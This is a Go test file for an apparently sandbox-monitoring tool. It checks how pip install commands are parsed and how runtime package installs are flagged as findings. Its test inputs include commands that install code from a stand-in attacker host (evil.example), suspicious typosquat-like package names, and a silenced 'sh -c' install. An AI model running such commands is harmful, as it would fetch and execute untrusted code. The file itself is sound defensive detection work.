package report

import (
	"slices"
	"strings"
	"testing"

	"github.com/moat-sandbox/moat"
)

// TestPipInstalls: what a command line asks pip to install from an index
// or a URL; local paths, other pip commands and pip's own build
// environment are none.
func TestPipInstalls(t *testing.T) {
	t.Parallel()
	for line, want := range map[string][]string{
		"pip install requests":                                         {"requests"},
		"pip3 install --quiet --no-input colourama-helper":             {"colourama-helper"},
		"/usr/bin/python3.11 -m pip install -U --user evil==1.0":       {"evil==1.0"},
		"python3 -I -m pip install -i https://evil.example/simple x y": {"x", "y"},
		"sh -c pip install discordpy-self >/dev/null 2>&1; echo ok":    {"discordpy-self"},
		"sudo pip3 install git+https://github.com/a/b.git":             {"git+https://github.com/a/b.git"},
		"env PIP_QUIET=1 pip3.11 install -r req.txt":                   {"requirements of req.txt"},
		"uv pip install httpx":                                         {"httpx"},
		"easy_install evilegg":                                         {"evilegg"},
		"pip install https://evil.example/x.tar.gz":                    {"https://evil.example/x.tar.gz"},
		"pip install .":    nil,
		"pip install -e .": nil,
		"pip install ./dist/pkg-1.0-py3-none-any.whl": nil,
		"pip install /tmp/fixture":                    nil,
		"pip download requests":                       nil,
		"pip list":                                    nil,
		"python3 setup.py install":                    nil,
		"python3 -m pytest install":                   nil,
		"grep pip install.log":                        nil,
		"/venv/bin/python -m pip install --ignore-installed --no-user --prefix /tmp/pip-build-env-abc/overlay -- setuptools>=40.8.0 wheel": nil,
	} {
		if got := pipInstalls(line); !slices.Equal(got, want) {
			t.Errorf("pipInstalls(%q) = %q, want %q", line, got, want)
		}
	}
}

// TestRuntimeInstallFinding: a program's pip install of a package is a
// medium execution finding naming it; moat's own launcher's is not.
func TestRuntimeInstallFinding(t *testing.T) {
	t.Parallel()
	prog := moat.Event{Source: moat.SourceKernel, Kind: moat.KindExec, PID: 7, PPID: 5, Path: "/usr/bin/python3.11", Detail: "python3.11 -m pip install --quiet colourama-helper"}
	own := moat.Event{Source: moat.SourceMoat, Kind: moat.KindExec, PID: 3, Path: "/work/.venv/bin/python", Detail: "moat's launcher: /work/.venv/bin/python -m pip install -v --no-index /work/src"}
	for _, c := range []struct {
		evs  []moat.Event
		want bool
	}{{[]moat.Event{prog}, true}, {[]moat.Event{own}, false}} {
		got := false
		for _, f := range Analyze(c.evs) {
			if strings.Contains(f.Summary, "installed packages at run time") {
				got = f.Severity == moat.SeverityMedium && strings.Contains(f.Summary, "colourama-helper")
			}
		}
		if got != c.want {
			t.Errorf("%v: finding %v, want %v", c.evs, got, c.want)
		}
	}
}
